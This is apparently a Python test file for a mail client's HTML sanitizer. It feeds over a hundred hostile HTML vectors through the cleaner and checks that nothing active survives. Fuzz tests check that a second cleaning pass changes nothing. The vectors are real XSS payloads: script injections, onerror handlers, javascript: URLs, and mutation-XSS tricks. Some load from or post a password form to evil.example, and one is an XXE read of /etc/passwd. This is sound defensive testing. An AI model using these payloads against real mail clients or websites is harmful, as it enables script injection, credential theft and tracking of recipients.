"""Hostile HTML of many kinds: nothing active, nothing loaded, nothing that a second pass would change."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from desktop.mail.html_clean import clean
from desktop.mail.html_render import render
from tests.mail.harmless import assert_harmless

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x20type='text/javascript'>x</script >",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror  =  'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src='jav\tascript:alert(1)'>",
    "<img src=&#106;&#97;&#118;&#97;script:alert(1)>",
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=http://evil.example/x>",
    "<img srcset='http://evil.example/x 1x'>",
    "<img src=file:///etc/passwd>",
    "<img src='\\\\evil.example\\share\\x.png'>",
    "<img src=//evil.example/x.png>",
    "<img src=C:\\secret.png>",
    "<img src=secret.png>",
    "<img src=:/qt/resource.png>",
    "<img src=qrc:/x.png>",
    "<img src=blob:0123>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><image href='http://evil.example/x'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><annotation-xml encoding='text/html'><script>x</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(http://evil.example/x)}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'><a href=x>y</a>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=http://evil.example></frameset>",
    "<object data=http://evil.example/x.swf><param name=x></object>",
    "<embed src=http://evil.example/x.swf>",
    "<applet code=x></applet>",
    "<video src=http://evil.example/x poster=http://evil.example/y autoplay></video>",
    "<audio><source src=x onerror=alert(1)></audio>",
    "<form action=http://evil.example><input name=password type=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=http://evil.example/x>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<isindex action=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1) background=javascript:x>",
    "<body background=http://evil.example/x>",
    "<table background=http://evil.example/x><td background=javascript:x>y",
    "<div style='background-image:url(http://evil.example/x)'>y</div>",
    "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px'>y</div>",
    "<div style='width:expression(alert(1))'>y</div>",
    "<div style='behavior:url(x.htc)'>y</div>",
    "<div style='-moz-binding:url(x)'>y</div>",
    "<div style='background:\\75\\72\\6c(javascript:x)'>y</div>",
    "<div style='color:red;\"><script>alert(1)</script>'>y</div>",
    "<ul style='list-style-image:url(http://evil.example/x)'><li>y</ul>",
    "<a href=javascript:alert(1)>y</a>",
    "<a href=' &#14; javascript:alert(1)'>y</a>",
    "<a href='\u2028javascript:alert(1)'>y</a>",
    "<a href='\x01java\x03script:alert(1)'>y</a>",
    "<a href='java&NewLine;script&colon;alert(1)'>y</a>",
    "<a href='vbscript:x'>y</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>y</a>",
    "<a href='file:///etc/passwd'>y</a>",
    "<a href='\\\\evil.example\\a.exe'>y</a>",
    "<a href='//evil.example/x'>y</a>",
    "<a href='ms-msdt:/id x'>y</a>",
    "<a href='http://a.example/\"onmouseover=alert(1)'>y</a>",
    "<a href=http://a.example/ onclick=alert(1) target=_blank ping=http://evil.example>y</a>",
    "<a href='mailto:a@b.c?attach=/etc/passwd'>y</a>",
    "<a xlink:href='javascript:alert(1)'>y</a>",
    "<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=x>",
    "<p><a href='x:<script>alert(1)</script>'>y</a>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php echo 1 ?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<xml id=x><x><b>&lt;img src=x onerror=alert(1)&gt;</b></x></xml>",
    "<xss style='x:expression(alert(1))'>y",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<b onmouseover=alert(1)>y</b>",
    "<b/onclick=alert(1)//>y",
    "<a\x00href=javascript:alert(1)>y</a>",
    "<im\x00g src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<table><a href=javascript:x><tr><td><form><table><form>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<p id=x class=gmail_quote name=y data-x=1 contenteditable>y",
    "<td colspan=99999999 rowspan=99999999>y",
    "<table><td colspan=99999999 rowspan=99999999>y",
    "<img width=999999999 height=999999999 src=http://a.example/x>",
    "<font size=99999 color=url(x)>y</font>",
    "<ol start=99999999999999999999><li>y</ol>",
    "<a href=http://a.example><a href=http://b.example>y",
    "<pre>\n\n<script>",
    "<li><div><li>y<td>z",
    "<dialog open>y</dialog><slot>z</slot>",
]


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("frame", ["{}", "<table><tr><td>{}</td></tr></table>", "<p><b>{}"])
def test_nothing_active_is_left_of_a_known_vector(vector: str, frame: str) -> None:
    result = clean(frame.format(vector.replace("{", "{{").replace("}", "}}")), pictures={}, remote_pictures=False)
    assert_harmless(result.html)
    assert clean(result.html, pictures={}, remote_pictures=False).html == result.html


def test_all_vectors_in_one_mail_are_harmless_too() -> None:
    rendered = render("\n".join(VECTORS), remote_pictures=True)
    assert_harmless(rendered.visible + rendered.quoted, remote=True)


PIECES = st.sampled_from(
    [
        "<p>", "</p>", "<div align=right>", "</div>", "<b>", "</b>", "<i style='color:red'>", "</i>",
        "<table>", "</table>", "<tr>", "<td bgcolor=yellow>", "</td>", "<ul>", "<li>", "</ul>", "<dl>", "<dd>",
        "<a href=http://a.example>", "</a>", "<font color=blue size=4>", "</font>", "<pre>", "\n", "</pre>",
        "<blockquote type=cite>", "</blockquote>", "<h1>", "</h1>", "<br>", "<hr>",
        "<img src=http://a.example/x width=900 height=10>", "<center>", "<form>", "<button>", "<select>",
        "<option>", "<svg>", "<math>", "<mi>", "<style>", "<script>", "</script>", "<title>", "<caption>",
        "<tbody>", "<object>", "<nobr>", "<span dir=rtl>", "</span>", "&lt;", "&#13;", "&#11;", "&nbsp;",
        "מילה", "word ", "<div dir=rtl align=right>", "<textarea>", "<noscript>", "<html>",
        "<body bgcolor=black text=white>", "<!--", "-->", "<template>", "<frameset>", "<thead>", "<col>",
        "<colgroup>", "<ruby>", "<rt>", "<menu>", "<dir>", "<center>", "<span style='background:#eee'>",
        "<a href='//x'>", "<p class=MsoNormal>", "<xmp>", "<table><td><table><td>",
    ]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=30))
def test_removing_once_never_creates_it_again_for_a_second_pass(pieces: list[str]) -> None:
    once = clean("".join(pieces), pictures={}, remote_pictures=True)
    assert_harmless(once.html, remote=True)
    assert clean(once.html, pictures={}, remote_pictures=True).html == once.html


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="<>/=\"'&;#! \n\x00scriptonajvdephf:12x", max_size=80))
def test_any_soup_becomes_harmless_and_stays_as_it_is(soup: str) -> None:
    once = clean(soup, pictures={}, remote_pictures=True)
    assert_harmless(once.html, remote=True)
    assert clean(once.html, pictures={}, remote_pictures=True).html == once.html
